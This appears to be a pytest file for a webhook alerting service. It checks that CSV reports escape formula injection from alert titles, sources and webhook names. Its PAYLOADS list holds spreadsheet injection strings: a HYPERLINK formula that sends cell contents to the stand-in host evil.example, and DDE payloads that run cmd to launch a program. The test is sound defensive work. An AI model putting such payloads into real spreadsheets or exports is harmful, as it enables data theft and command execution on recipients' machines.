"""A CSV report opened in a spreadsheet must not run what a sender put in an alert."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from aiohttp.test_utils import TestClient

from engine.settings import Settings
from tests.support.factories import Account, create, path_of, run_worker

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("kind", ["detailed", "incidents"])
async def test_csv_cells_from_senders_never_start_a_formula(
    client: TestClient, account: Account, settings: Settings, kind: str
) -> None:
    webhook = await create(client, account, {"name": "=formula hook", "notificationTypes": ["EMAIL"]})
    for payload in PAYLOADS:
        resp = await client.post(path_of(webhook), json={"title": payload, "source": payload})
        assert resp.status == 202
    await run_worker(settings)

    today = datetime.now(UTC).date().isoformat()
    body = {"type": kind, "format": "csv", "dateRange": f"{today} to {today}"}
    resp = await client.post("/api/reports/generate", json=body, headers=account.headers)
    assert resp.status == 200, await resp.text()
    rows = list(csv.DictReader(io.StringIO(await resp.text(), newline="")))
    assert sorted(r["title"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    for row in rows:
        assert row["source"].startswith("'") and row["webhook"] == "'=formula hook"
